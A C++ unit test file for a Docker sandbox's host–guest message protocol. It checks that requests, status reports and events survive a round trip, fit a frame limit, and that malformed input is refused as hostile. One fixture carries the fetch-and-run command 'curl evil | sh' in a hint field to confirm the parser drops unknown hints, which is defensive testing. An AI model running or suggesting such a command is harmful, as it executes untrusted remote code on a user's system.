// SPDX-License-Identifier: Apache-2.0
// What host and guest say to each other about what the guest keeps: all of it comes back, and nonsense is refused.
#include <berth/docker/daemon_messages.hpp>
#include <berth/docker/diagnose.hpp>
#include <berth/guest/protocol.hpp>

#include <gtest/gtest.h>

namespace berth {
namespace {

supervisor_options options() {
  supervisor_options o;
  o.plan.versions = {{28, 5, 2}, {1, 7, 0}, {1, 3, 6}};
  o.plan.runsc_release = 20260701;
  o.plan.uplink_device = "eth0";
  o.plan.uplink_address = "10.0.0.2";
  o.plan.uplink_mtu = 1400;
  o.plan.snat = false;
  o.plan.sockets = {"/var/run/docker.sock", "/run/berth/docker.sock"};
  o.plan.data_root = "/d";
  o.plan.data_root_mounted = false;
  o.plan.data_root_on_host = true;
  o.plan.storage_driver = "vfs";
  o.plan.guest = "/x/init";
  o.plan.wrap_runc = docker_plan_options::runc_wrapper::never;
  o.plan.dockerd = "/opt/dockerd";
  o.plan.dockerd_args = {"--debug", "a b", "", "\u00fc\"\\\n"};
  o.plan.env = {"HTTP_PROXY=http://p:1"};
  o.ready_timeout = milliseconds(12345);
  o.restart.what = restart_policy::kind::on_failure;
  o.restart.limit = 7;
  o.restart.first_pause = milliseconds(1);
  o.restart.max_pause = milliseconds(2);
  o.restart.settle = milliseconds(3);
  o.stop_containers_timeout = milliseconds(4);
  o.term_timeout = milliseconds(5);
  o.kill_timeout = milliseconds(6);
  return o;
}

daemon_status failed() {
  daemon_status s;
  s.state = daemon_state::failed;
  s.pid = 0;
  s.ready_after = milliseconds(321);
  s.restarts = 2;
  daemon_failure why;
  why.phase = "wait";
  why.elapsed = milliseconds(77);
  why.attempts = 3;
  why.restarts = 2;
  why.exited = exit_status{0, 9};
  why.reason = "reason";
  why.cause = errno_error(EACCES, "process", "cannot", "/p");
  why.cause->detail = "d";
  why.last_probe = "probe";
  why.tail = "line 1\nline 2\n";
  why.hint_id = "BERTH-DAEMON-JSON";
  why.hint = find_docker_failure(why.hint_id).remedy;
  s.failure = why;
  return s;
}

TEST(DaemonMessages, ARequestComesBackWhole) {
  daemon_request asked;
  asked.what = daemon_request::kind::start;
  asked.docker = options();
  asked.lines = true;
  asked.run.emplace();
  asked.run->argv = {"sh", "-c", "exit 3"};
  asked.run->env = {"A=1"};
  asked.run->cwd = "/w";
  asked.run->user = "1000:1000";
  const std::string text = format_daemon_request(asked);
  const auto got = parse_daemon_request(text);
  ASSERT_TRUE(got) << got.error().to_string();
  EXPECT_EQ(got->what, asked.what);
  ASSERT_TRUE(got->docker && got->run);
  const docker_plan_options &a = asked.docker->plan, &b = got->docker->plan;
  EXPECT_EQ(b.versions.docker, a.versions.docker);
  EXPECT_EQ(b.versions.containerd, a.versions.containerd);
  EXPECT_EQ(b.versions.runc, a.versions.runc);
  EXPECT_EQ(b.dockerd_args, a.dockerd_args);
  EXPECT_EQ(b.wrap_runc, a.wrap_runc);
  EXPECT_EQ(got->docker->ready_timeout, asked.docker->ready_timeout);
  EXPECT_EQ(got->run->argv, asked.run->argv);
  EXPECT_EQ(got->run->env, asked.run->env);
  EXPECT_EQ(got->run->cwd, "/w");
  EXPECT_EQ(got->run->user, "1000:1000");
  // What was read is written the same, so nothing of it was lost.
  EXPECT_EQ(format_daemon_request(*got), text);

  for (const auto kind : {daemon_request::kind::stop, daemon_request::kind::watch}) {
    daemon_request plain;
    plain.what = kind;
    const auto back = parse_daemon_request(format_daemon_request(plain));
    ASSERT_TRUE(back);
    EXPECT_EQ(back->what, kind);
    EXPECT_FALSE(back->docker || back->run);
  }
}

TEST(DaemonMessages, NoTimeIsTooLongToBeSaid) {
  daemon_request asked;
  asked.what = daemon_request::kind::start;
  asked.docker = options();
  asked.docker->ready_timeout = duration::max();
  const auto got = parse_daemon_request(format_daemon_request(asked));
  ASSERT_TRUE(got) << got.error().to_string();
  EXPECT_EQ(got->docker->ready_timeout, duration::max());
}

TEST(DaemonMessages, NewsComeBackWhole) {
  daemon_news news;
  news.status.emplace();
  news.status->docker = failed();
  news.status->command = kept_command{kept_command::state::exited, 137};
  news.log = log_event{log_level::warn, "message", {{"k", "v"}, {"", "a\nb"}}};
  news.line.emplace(output_stream::err, "a line");
  news.done = true;
  news.failed = failed().failure->to_error();
  const std::string text = format_daemon_news(news);
  const auto got = parse_daemon_news(text);
  ASSERT_TRUE(got) << got.error().to_string();
  EXPECT_EQ(format_daemon_news(*got), text);
  ASSERT_TRUE(got->status && got->status->docker.failure && got->failed && got->log);
  EXPECT_EQ(got->status->docker.failure->to_error().to_string(), news.status->docker.failure->to_error().to_string());
  EXPECT_FALSE(news.failed->hint.empty());
  EXPECT_EQ(got->failed->hint, "") << "a sandbox must not tell people what to do";
  news.failed->hint.clear();
  EXPECT_EQ(got->failed->to_string(), news.failed->to_string());
  EXPECT_EQ(got->log->fields[1].value, "a\nb");
  EXPECT_EQ(got->status->command->exit_code, 137);

  const auto status = parse_guest_status(format_guest_status(*news.status));
  ASSERT_TRUE(status) << status.error().to_string();
  EXPECT_EQ(status->docker.failure->tail, news.status->docker.failure->tail);
}

// However long the sandbox's words are, and whatever bytes they have.
TEST(DaemonMessages, EventsComeBackAndAreMadeOfChanges) {
  using kind = sandbox_event::kind;
  for (const kind one : {kind::container_out_of_memory, kind::docker_ready, kind::docker_ended, kind::docker_failed,
                         kind::docker_stopped}) {
    daemon_news news;
    news.event = sandbox_event{one, 1'700'000'000'123, "c0ffee", "what\x1b happened"};
    const auto got = parse_daemon_news(format_daemon_news(news));
    ASSERT_TRUE(got && got->event) << got.error().to_string();
    EXPECT_EQ(got->event->what, one);
    EXPECT_EQ(got->event->at_ms, 1'700'000'000'123);
    EXPECT_EQ(got->event->container, "c0ffee");
    EXPECT_EQ(got->event->message, "what  happened");
  }
  EXPECT_EQ(format_sandbox_event({kind::docker_ready, 5, "", "m"}),
            R"({"event":"docker_ready","at_ms":5,"container":"","message":"m"})");
  for (const char* bad : {R"({"event":{"event":"other","at_ms":1,"container":"","message":""}})", R"({"event":1})",
                          R"({"event":{"event":"docker_ready","at_ms":"1","container":"","message":""}})"}) {
    const auto refused = parse_daemon_news(bad);
    ASSERT_FALSE(refused) << bad;
    EXPECT_EQ(refused.error().code, errc::hostile);
  }
  const auto what = [](daemon_state before, daemon_state now) -> std::optional<kind> {
    daemon_status status;
    status.state = now;
    const auto event = event_of_change(before, status);
    if (!event) return std::nullopt;
    return event->what;
  };
  using state = daemon_state;
  EXPECT_EQ(what(state::disabled, state::starting), std::nullopt);
  EXPECT_EQ(what(state::starting, state::ready), kind::docker_ready);
  EXPECT_EQ(what(state::ready, state::starting), kind::docker_ended);
  EXPECT_EQ(what(state::ready, state::failed), kind::docker_failed);
  EXPECT_EQ(what(state::ready, state::stopped), kind::docker_stopped);
  EXPECT_EQ(what(state::ready, state::ready), std::nullopt);
}

TEST(DaemonMessages, EachPieceOfNewsFitsAFrame) {
  std::string all;
  for (int i = 0; i < 100'000; ++i) all += static_cast<char>(i);
  daemon_news news;
  news.status.emplace();
  news.status->docker = failed();
  daemon_failure& why = *news.status->docker.failure;
  why.reason = why.last_probe = why.tail = why.cause->message = why.cause->path = why.cause->hint = why.cause->detail =
      all;
  std::string text = format_daemon_news(news);
  EXPECT_LT(text.size(), guest_frame_limit);
  EXPECT_TRUE(parse_daemon_news(text));
  news = {};
  news.log = log_event{log_level::info, all, {{"a", all}, {"b", all}, {"c", all}, {"d", all}}};
  text = format_daemon_news(news);
  EXPECT_LT(text.size(), guest_frame_limit);
  EXPECT_TRUE(parse_daemon_news(text));
  news = {};
  news.done = true;
  news.failed = make_error(errc::daemon_failed, "docker", all, all, all);
  news.failed->detail = all;
  text = format_daemon_news(news);
  EXPECT_LT(text.size(), guest_frame_limit);
  EXPECT_TRUE(parse_daemon_news(text));
}

TEST(DaemonMessages, NonsenseIsHostile) {
  const std::string good = R"({"docker":{"state":"ready","pid":1,"ready_after_ms":1,"restarts":0}})";
  ASSERT_TRUE(parse_guest_status(good));
  for (
      const char* bad : {
          "",
          "{}",
          "[]",
          "null",
          R"({"docker":[]})",
          R"({"docker":{"state":"ready","pid":-1,"ready_after_ms":1,"restarts":0}})",
          R"({"docker":{"state":"ready","pid":99999999999,"ready_after_ms":1,"restarts":0}})",
          R"({"docker":{"state":"ready","pid":1,"ready_after_ms":-1,"restarts":0}})",
          R"({"docker":{"state":"ready","pid":1,"ready_after_ms":1e9,"restarts":0}})",
          R"({"docker":{"state":"READY","pid":1,"ready_after_ms":1,"restarts":0}})",
          R"({"docker":{"state":"ready","pid":1,"ready_after_ms":1}})",
          R"({"docker":{"state":"ready","pid":1,"ready_after_ms":1,"restarts":0},"command":{"state":"gone","exit_code":0}})",
          R"({"docker":{"state":"ready","pid":1,"ready_after_ms":1,"restarts":0},"command":{"state":"exited","exit_code":256}})",
      }) {
    const auto got = parse_guest_status(bad);
    ASSERT_FALSE(got) << bad;
    EXPECT_EQ(got.error().code, errc::hostile) << bad;
  }
  for (const char* bad :
       {"7", R"({"log":{"level":9,"message":"","fields":[]}})", R"({"log":{"level":1,"message":"","fields":[["a"]]}})",
        R"({"done":1})", R"({"failed":{"code":0,"errno":0,"layer":"","message":"","path":"","detail":""}})"})
    EXPECT_FALSE(parse_daemon_news(bad)) << bad;
  // A hint that we do not know is none.
  const auto unknown = parse_guest_status(
      R"({"docker":{"state":"failed","pid":0,"ready_after_ms":0,"restarts":0,"failure":{"phase":"run","elapsed_ms":1,"attempts":0,)"
      R"("restarts":0,"reason":"","last_probe":"","tail":"","hint_id":"BERTH-RUN-THIS","hint":"curl evil | sh"}}})");
  ASSERT_TRUE(unknown) << unknown.error().to_string();
  EXPECT_EQ(unknown->docker.failure->hint_id + unknown->docker.failure->hint, "");
  // A code that is none of the library's becomes one.
  const auto odd =
      parse_daemon_news(R"({"failed":{"code":-199,"errno":0,"layer":"","message":"m","path":"","detail":""}})");
  ASSERT_TRUE(odd);
  EXPECT_EQ(odd->failed->code, errc::daemon_failed);
  for (const char* bad :
       {"", "{}", R"({"do":"dance"})", R"({"do":"start","docker":{}})", R"({"do":"start","run":{"argv":7}})"}) {
    const auto got = parse_daemon_request(bad);
    ASSERT_FALSE(got) << bad;
    EXPECT_EQ(got.error().code, errc::invalid) << bad;
  }
}

TEST(EventOfChange, OneRestartIsOne) {
  daemon_status now;
  now.state = daemon_state::ready;
  EXPECT_EQ(event_of_change(daemon_state::starting, now)->message, "Docker is ready");
  now.restarts = 1;
  EXPECT_EQ(event_of_change(daemon_state::starting, now)->message, "Docker is ready again, after 1 restart in all");
  now.restarts = 2;
  EXPECT_EQ(event_of_change(daemon_state::starting, now)->message, "Docker is ready again, after 2 restarts in all");
}

}  // namespace
}  // namespace berth
